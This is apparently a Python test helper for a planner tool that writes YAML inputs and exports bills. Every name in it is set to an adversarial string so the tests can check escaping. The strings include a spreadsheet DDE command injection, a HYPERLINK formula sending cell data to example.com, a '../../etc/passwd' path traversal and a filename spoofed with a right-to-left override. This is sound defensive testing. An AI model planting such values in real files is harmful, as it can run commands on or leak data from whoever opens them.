"""Texts that try to be more than text, and a small problem in which every name is one of them."""

from __future__ import annotations

import io
import sys
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest
import yaml
from openpyxl.workbook import Workbook

from planner import cli, process
from planner.files import load_bytes
from tests.world.files import BOOK, CATALOG, PROBLEM

HARMLESS = "harmless"
TEXTS: dict[str, str] = {
    "equals": "=1+1",
    "plus": "+1",
    "at": "@SUM(A1:A9)",
    "command": "=cmd|' /C calc'!A0",
    "link": '=HYPERLINK("http://example.com/?x="&A1,"click")',
    "tab": "\t=1",
    "newline": "\n=1",
    "blank": "  =1",
    "full_width": "\uff1d1+1",
    "zero_width": "\u200b=1",
    "comma": 'a,"=1+1",b',
    "control": "a\x00b\x07c\x1b[31md\x7fe\x85f",
    "noncharacter": "a\ufffeb\uffffc",
    "lines": "first\r\nsecond\rthird\u2028fourth",
    "sheet_name": "[]:*?/\\",
    "quotes": "'a' \"b\" 'c",
    "xml": '<a href="x">&amp;</a>]]><!--',
    "escape": "_x0041_ _x000D_",
    "marks": "100\u200f-\u200f200",
    "override": "invoice\u202egpj.exe",
    "hebrew": "\u05de\u05d3\u05e3\u200f 12",
    "astral": "\U0001d518 \U0001f680",
    "number": "1E5",
    "date": "2026-11",
    "address": "http://example.com/" + "x" * 2_100,
    "path": "../../etc/passwd",
    "long": "x" * 40_000,
    "long_astral": "\U0001d518" * 20_000,
}


class _Quoting(yaml.SafeDumper):
    """Quotes all text, whatever it looks like."""


_Quoting.add_representer(
    str, lambda dumper, text: dumper.represent_scalar("tag:yaml.org,2002:str", text, style='"')
)


def _figure(value: str) -> dict[str, str]:
    return {"value": value, "source": "sheet", "confidence": "high"}


def _named(text: str) -> dict[str, Any]:
    names = {"vendor": text, "model": text, "part_number": text, "description": text}
    return {**names, "notes": [text]}


def world(text: str, parts: Mapping[str, str] = {}) -> tuple[Any, Any, Any]:
    """Return problem, catalog and price book in which every name, note and title is ``text``.

    Args:
        text: what everything is called.
        parts: names of further components, which the storage then is made of, by catalog id.
    """
    problem, catalog, book = (yaml.safe_load(content) for content in (PROBLEM, CATALOG, BOOK))
    systems, store, *_ = catalog["items"]
    if parts:
        store["components"] = [{"id": name, "quantity": 2} for name in parts]
        del store["consumes"]
    for item in (systems, store):
        item.update(_named(text))
    catalog["items"] = [systems, store, *(_part(name, part) for name, part in parts.items())]
    catalog["families"] = [{"id": "quick_fs", "vendor": text, "name": text}]
    catalog["catalog"] = catalog["sources"]["sheet"]["title"] = text
    problem.update({"name": text, "description": text})
    problem["jobs"][0]["name"] = text
    del problem["scenarios"]
    book["price_book"] = book["sources"]["quote"]["title"] = text
    del book["prices"]["slow_store"]
    for price in book["prices"].values():
        price.update({"note": text, "confidence": "low"})
    book["discounts"] = [{"category": "gpu_system", "discount": "5 %"}]
    return problem, catalog, book


def _part(name: str, text: str) -> dict[str, Any]:
    consumes = {
        "it_power": _figure("0.02 kW"),
        "rack_units": _figure("0.05 RU"),
        "weight": _figure("1 kg"),
    }
    return {"id": name, "category": "component", "consumes": consumes, **_named(text)}


def lay_out(folder: Path, text: str, stem: str = "problem", parts: Mapping[str, str] = {}) -> Path:
    """Write the three files and return the problem's.

    Args:
        folder: where they go.
        text: what everything is called.
        stem: name of the problem file without its ending.
        parts: names of further components, by catalog id.
    """
    problem, catalog, book = world(text, parts)
    path = folder / f"{stem}.yaml"
    for target, content in ((path, problem), ("own.yaml", catalog), ("book.yaml", book)):
        dumped = yaml.dump(content, Dumper=_Quoting, allow_unicode=False, sort_keys=False)
        (folder / target).write_text(dumped, encoding="utf-8")
    return path


def command(*arguments: str) -> int:
    """Run the command line in this process, both bills asked for."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("PLANNER_DEBUG", "1")
        patch.setattr(sys, "argv", ["planner", *arguments, "--also", "bill.csv,bill.json"])
        return process.run(cli.app)


# A workbook as openpyxl reads it.


def opened(content: bytes, *, data_only: bool = False) -> Workbook:
    """Return a workbook; what openpyxl does not know of it is dropped without a word."""
    return load_bytes(io.BytesIO(content), shown=data_only)
